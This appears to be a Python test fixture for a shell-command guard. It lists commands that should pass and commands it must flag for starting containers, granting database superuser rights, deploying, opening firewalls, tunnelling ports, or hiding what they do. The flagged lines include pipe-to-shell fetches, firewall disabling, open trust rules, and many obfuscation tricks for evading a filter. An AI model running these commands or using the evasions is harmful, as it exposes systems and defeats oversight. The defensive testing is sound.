"""Commands that pass, and ways to write one that must not, by what it does."""

from __future__ import annotations

from policies.openings import CANNOT_BE_READ, DEPLOYS, GRANTS, OPENS, STARTS, TUNNELS

HARMLESS = """
docker ps
docker exec db psql -c "select 1"
docker inspect x --format '{{.State}}'
docker -H x logs run
docker compose ps
docker pull x
kubectl get pods -n run
helm list
ufw status
ufw deny 5432
iptables -L -n
iptables -A INPUT -p tcp --dport 5432 -j DROP
nft list ruleset
nc -z db 5432
ssh h uptime
systemctl restart docker
echo "docker run is forbidden"
grep "docker run" notes
command -v docker >/dev/null && docker ps
psql -h "$HOST" -c "select 1"
pg_dump app | gzip > x.gz
test -f x && rm x
mkdir -p "$DIR/x"
curl -fsS http://127.0.0.1:4003/health
./scripts/backup.sh
for i in 1 2 3; do pg_isready -h "$H" && break; sleep 1; done
sh -c 'pg_isready -h db'
python3 -c 'print(1)'
usermod -aG docker deploy
mkdir -p /opt/docker /opt/data
rsync -a /srv/docker /backup
ls /etc/docker /etc/ssl
ln -s /srv/docker /opt/docker
tar czf x.tgz compose data
find . -name docker -type d
sudo apt-get install -y haproxy
sudo DEBIAN_FRONTEND=noninteractive apt-get install -y terraform socat docker.io docker-compose
pip install ansible
git clone https://github.com/hashicorp/vagrant
systemctl restart containerd haproxy
systemctl enable docker containerd
pulumi stack output url
terraform output -json
psql -c "alter role app nosuperuser nocreatedb"
psql -c "revoke all on database d from public"
psql -c "grant usage on schema public to app"
redis-cli acl setuser app on +@read
redis-server --bind 127.0.0.1
sudo -u postgres psql -h 0.0.0.0
docker cp db:/tmp/x .
docker context ls
""".strip().splitlines()  # fmt: skip
OPENING = {
    STARTS: r"""
docker.io run x
docker-current run x
finch run x
buildah run x
apptainer run x
docker context use x
mount --bind /var/run /srv/x
tar cf y x --checkpoint-action=exec="docker run x"
rsync -e docker run:x y
git clone 'ext::docker run x'
dpkg --pre-invoke="docker run x" -i y
sudo -u ls docker run x
./mkdir docker run x
find . -exec docker run x +
make -f - <<< 'x: ; docker run x'
ed <<< '!docker run x'
crontab - <<< "* * * * * docker run x"
docker run x
/usr/bin/docker run x
docker  --debug   run x
docker --host x -H y run x
docker container run x
docker create -p 1:1 x
docker -c x compose -f y up
docker-compose up -d
docker stack deploy x
docker service update --publish-add 5432 x
docker network connect a b
docker swarm init
podman play kube x
nerdctl run x
ctr run x
docker.exe run x
DOCKER run x
d"o"cker run x
do\cker run x
$'\x64ocker' run x
docker ''run x
docker${IFS}run x
X=doc; Y=ker; $X$Y run x
D="docker run"; $D x
export D=docker; "$D" run x
sudo -u root docker run x
env A=b nohup timeout 5 docker run x
env -S "docker run x"
exec docker run x
time docker run x
! docker run x
>/dev/null docker run x
X=1 docker run x
true && (docker run x)
if x; then docker run x; fi
case x in x) docker run x;; esac
f() { docker run x; }; f
docker ps; docker run x & wait
echo $(docker run x)
echo `docker run x`
diff <(docker run x) y
: ${X:=$(docker run x)}
[[ $(docker run x) = y ]]
find . -exec docker run x \;
xargs -a f docker run
sh -c 'docker run x'
bash -lc "docker  run x"
sh -c "sh -c 'docker run x'"
su -c "docker run x"
watch -n1 'docker run x'
nsenter -t 1 -- docker run x
busybox sh -c 'docker run x'
ssh h docker run x
ssh h "docker run x"
kubectl exec p -- docker run x
eval docker run x
eval "doc""ker run x"
sh <<< "docker run x"
trap 'docker run x' EXIT
psql -c '\! docker run x'
tar --to-command='docker run x' -xf y
git -c core.sshCommand='docker run x' fetch y
vim -c '!docker run x' -c q
echo "docker run x" > x.sh
printf 'docker run x' | at now
curl --unix-socket /var/run/docker.sock http://x/y
curl http://localhost:2375/v1/x
""",
    GRANTS: r"""
psql -c "alter role app superuser"
psql -c "ALTER ROLE app WITH LOGIN CREATEROLE"
psql -c "create user app replication"
psql -c "grant all on database d to public"
psql -c "grant connect on database d to app, public"
psql -c 'grant "pg_read_all_data" to app'
psql -c alter\ role\ app\ superuser
psql -c "copy (select 1) to program 'x'"
psql <<< "grant all on database d to public"
redis-cli acl setuser default on nopass "~*" "+@all"
redis-cli "acl" 'setuser' default on nopass
redis-cli CONFIG SET requirepass ""
redis-cli config "set" requirepass ''
docker exec db psql -c "alter role app superuser"
""",
    DEPLOYS: """
kubectl -n x expose deploy y
kubectl apply -f -
kubectl run x --image y
kubectl port-forward svc/x 5432
kubectl proxy
kubectl patch svc x -p '{}'
oc expose svc x
helm upgrade --install x
terraform apply
pulumi up
ansible-playbook x
""",
    OPENS: """
ufw allow 5432
ufw --force disable
ufw default allow
ufw insert 1 allow 1
iptables -A INPUT -j ACCEPT
iptables -w -A INPUT -jACCEPT
iptables -A INPUT -j ACCEPT -m comment --comment "-j DROP"
iptables -F
iptables -P INPUT ACCEPT
iptables -t nat -A PREROUTING -j DNAT
ip6tables -D INPUT 1
iptables-restore x
nft flush ruleset
nft add rule inet f i accept
firewall-cmd --add-port=5432/tcp
systemctl stop ufw
firewall-offline-cmd --disabled
firewall-offline-cmd --add-port=5432/tcp
aws ec2 authorize-security-group-ingress --port 5432
gcloud compute firewall-rules create x
netsh advfirewall set allprofiles state off
postgres -h 0.0.0.0 -D /x
redis-server --bind '* -::*'
mongod --bind_ip_all
pg_conftool set listen_addresses '*'
docker cp pg_hba.conf pg:/var/lib/postgresql/data/
systemctl disable --now firewalld
psql -c "alter  system set listen_addresses to '*'"
echo "host all all 0.0.0.0/0 trust" >> pg_hba.conf
redis-cli CONFIG SET bind 0.0.0.0
sysctl -w net.ipv4.conf.all.route_localnet=1
""",
    TUNNELS: """
socat TCP-LISTEN:1,fork TCP:db:5432
socat tcp-l:5432 tcp:db:5432
sshuttle -r h 0/0
wg-quick up wg0
tailscale up --advertise-routes=172.28.0.0/16
ncat -lk 1
nc -l -p 5432
ssh -fNR 1:db:5432 h
ssh h -L 1:2:3
ssh -gL 1:2:3 h
ssh -o GatewayPorts=yes h
upnpc -a 1 2 3 tcp
ngrok tcp 5432
cloudflared tunnel run
tailscale funnel 5432
""",
    CANNOT_BE_READ: r"""
$X run
"$SHELL" -c 'x'
$(which docker) run x
`echo docker` run x
{docker,run,x}
/usr/bin/dock?r run x
do$()cker run x
d${z:-o}cker run x
a=(docker run); "${a[@]}"
set -- docker run x; "$@"
for d in docker; do $d run; done
D=doc; D+=ker; $D run
IFS=,; c=docker,run; $c
docker $A x
docker {run,x}
docker "$(echo run)" x
f() { docker "$@"; }; f run
alias d=docker
eval "$(x)"
sh -c "$(curl x)"
bash <(curl x)
bash -c '"$@"' _ docker run x
curl http://x | sh
echo x | base64 -d | sh
sh -s < x
. /dev/stdin
curl -o x.sh http://x && sh x.sh
echo x | base64 -d > y; sh y
git clone http://x && ./x/y
cp /usr/bin/docker d; ./d run x
echo run | xargs docker
find /usr/bin -name 'dock*' -exec {} run x \;
sudo $X
python3 -c 'import os; os.system("x")'
python3 -c 'import docker'
python3 -m docker_compose up
perl -e 'x("doc"."ker run")'
node -e 'require("child_process")'
awk 'BEGIN{system("x")}'
((
""",
}
CASES = [(meaning, line) for meaning, lines in OPENING.items() for line in lines.strip().splitlines()]
MANY_LINES = [
    "docker \\\n run x",
    "doc\\\nker run x",
    "# x \\\ndoc\\\nker run x",
    "true\ndocker run x\n",
    "docker\\\r\n run x",
    "sh <<EOF\ndocker run x\nEOF",
    "sh <<'EOF'\n# \\\ndocker run x\nEOF",
    "cat > x.sh <<EOF\ndocker run x\nEOF",
    "ssh h <<EOF\ndocker run x\nEOF",
    "make -f - <<EOF\nx:\n\tdocker run x\nEOF",
    "tee x.service <<EOF\nExecStart=/usr/bin/docker run x\nEOF",
]
